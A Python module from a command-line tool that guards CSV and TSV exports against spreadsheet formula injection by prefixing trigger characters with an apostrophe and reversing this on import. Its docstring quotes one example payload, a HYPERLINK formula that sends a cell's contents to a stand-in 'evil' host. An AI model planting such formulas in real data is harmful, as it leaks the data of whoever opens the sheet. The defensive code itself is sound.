"""CSV and TSV cells: the one place where bapp's data meets a spreadsheet.

A spreadsheet that opens a CSV or TSV file runs any cell that starts with `=`, `+`, `-` or `@` as a
formula (a tab or carriage return in front does not stop some of them), so a client who types
`=HYPERLINK("http://evil/?"&A1,"Click")` into the public Calendly form would otherwise own the sheet of
whoever opens the export. Every text cell bapp writes to CSV or TSV — listings, exports, rejects files —
goes through `cell_text`, which puts an apostrophe in front of such a value (the OWASP advice; the
spreadsheet shows the value as text and hides the apostrophe).

The prefix is reversible, so an export imports back unchanged: `restore_cell` (what `bapp import` does
with every CSV/TSV cell) removes one apostrophe from a cell that is apostrophes followed by a trigger
character. Values that already start with apostrophes before a trigger get one more on the way out, so
the mapping is exact both ways. `raw=True` (`--raw` on import and export) writes and reads cells as
they are, for machine round trips with other tools.

Only text is neutralised: numbers, money, booleans and instants are bapp's own formatting and cannot
hold a formula (`-5` stays `-5`).
"""

from __future__ import annotations

import datetime as dt
import decimal
import json
import re
from typing import Any

from bapp_cli.services.instants import instant_text

FORMULA_TRIGGERS = "=+-@\t\r"
_NEEDS_PREFIX = re.compile(r"'*[=+\-@\t\r]")
_PREFIXED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(text: str) -> str:
    """`text` made safe to open in a spreadsheet (see the module docstring for why it is reversible)."""
    return "'" + text if _NEEDS_PREFIX.match(text) else text


def restore_cell(text: str) -> str:
    """The value a neutralised cell stood for; any other cell unchanged."""
    return text[1:] if _PREFIXED.match(text) else text


def cell_text(value: Any, *, raw: bool = False) -> str:
    """A value as one CSV/TSV cell: null empty, instants ISO 8601 UTC, money two decimals, nested values JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, dt.date | decimal.Decimal):  # instants, dates, money: as in JSON
        return str(json_default(value))
    if isinstance(value, list | dict | tuple):
        # starts with `[` or `{`: never a formula
        return json.dumps(value, default=json_default, ensure_ascii=False, separators=(",", ":"))
    text = str(value)
    return text if raw else neutralise(text)


def json_default(value: Any) -> Any:
    """The JSON form of the values `json` does not know, for every JSON bapp writes (documents, JSON
    lines, nested values in cells): the same instant, date and money forms as a cell."""
    if isinstance(value, dt.datetime):
        return instant_text(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, decimal.Decimal):
        return f"{value:.2f}"
    if isinstance(value, set | frozenset | tuple):
        return list(value)
    raise TypeError(f"cannot serialise {type(value).__name__}")  # a record bapp built wrongly: a bug, not data
